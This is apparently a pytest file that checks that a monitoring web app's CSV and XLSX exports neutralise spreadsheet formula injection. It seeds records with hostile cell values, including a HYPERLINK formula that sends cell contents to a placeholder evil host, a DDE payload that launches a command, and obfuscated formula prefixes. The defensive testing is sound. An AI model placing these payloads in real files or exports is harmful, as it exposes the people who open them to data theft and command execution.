"""Every CSV and XLSX the web serves, with crawled text that tries to be a formula (and a
NUL that openpyxl cannot store): downloaded as a user would, opened, and checked cell by
cell. Text is prefixed and stored as text; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re

from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

from monitor.spreadsheet import FORMULA_TRIGGERS
from monitor.store.models import Alert, Finding, Item, Unit
from tests.web.conftest import login
from tests.web.seed import Seeded

HYPERLINK = '=HYPERLINK("http://evil.invalid/?leak="&A1,"详情")'
DDE = "+1+cmd|' /C calc'!A0"
NUMERIC = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")
CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


def _poison(sessions: sessionmaker[Session], seeded: Seeded) -> None:
    with sessions() as s, s.begin():
        s.execute(update(Unit).where(Unit.id == seeded.ids["v1"]).values(name=HYPERLINK))
        s.execute(update(Unit).where(Unit.id == seeded.ids["v2"]).values(name="\uff1d1+1"))
        s.execute(
            update(Item)
            .where(Item.id == seeded.ids["item"])
            .values(title="@SUM(1,1)\x00 with a NUL", category="\t=1+1", url=DDE)
        )
        s.execute(update(Finding).values(message="-2+3", subject=" =1+1"))
        s.execute(update(Alert).values(title="\r=1+1", subject="-1"))


def _text_is_safe(value: str, where: str) -> None:
    assert not CONTROL.search(value), where
    if value.lstrip(" \n\u3000").startswith(FORMULA_TRIGGERS):
        # Only a number may start with a minus sign.
        assert NUMERIC.fullmatch(value), where


def _check_csv(body: bytes, where: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    for row in rows:
        for cell in row:
            _text_is_safe(cell, f"{where}: {cell!r}")
    return rows


def _check_xlsx(body: bytes, where: str) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(body)).active
    values = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type in ("s", "n"), f"{where} {cell.coordinate}: {cell.data_type}"
            if isinstance(cell.value, str):
                _text_is_safe(cell.value, f"{where} {cell.coordinate}: {cell.value!r}")
        values.append([c.value for c in row])
    return values


def _exports(seeded: Seeded) -> list[str]:
    village = "330101001001"
    paths = []
    for fmt in ("csv", "xlsx"):
        paths += [f"/export/{t}.{fmt}" for t in ("units", "worst", "improved")]
        paths.append(f"/export/units.{fmt}?parent={seeded.ids['east']}")
        paths += [f"/units/{village}/{t}.{fmt}" for t in ("findings", "history", "scores")]
        paths.append(f"/workspace/alerts.{fmt}")
    return paths


def test_every_web_export_is_inert(
    client: TestClient, web_sessions: sessionmaker[Session], seeded: Seeded
):
    _poison(web_sessions, seeded)
    login(client, "admin")
    seen: list[str] = []
    for path in _exports(seeded):
        response = client.get(path)
        assert response.status_code == 200, path
        if ".csv" in path:
            rows = _check_csv(response.content, path)
            seen += [cell for row in rows for cell in row]
        else:
            rows = _check_xlsx(response.content, path)
            seen += [str(cell) for row in rows for cell in row]
    # The hostile text is there, neutralised, not dropped.
    for text in (HYPERLINK, DDE, "\uff1d1+1", "@SUM(1,1) with a NUL", "-2+3", "\r=1+1"):
        assert "'" + text in seen, text


def test_numbers_stay_numbers_in_xlsx(client: TestClient, seeded: Seeded):
    rows = _check_xlsx(client.get("/export/units.xlsx").content, "units")
    header, *body = rows
    for column in ("total", "completeness", "timeliness"):
        index = header.index(column)
        assert body and all(isinstance(row[index], int | float) for row in body), column
    # Codes are identifiers (leading zeros matter): text, not numbers.
    assert all(isinstance(row[header.index("code")], str) for row in body)
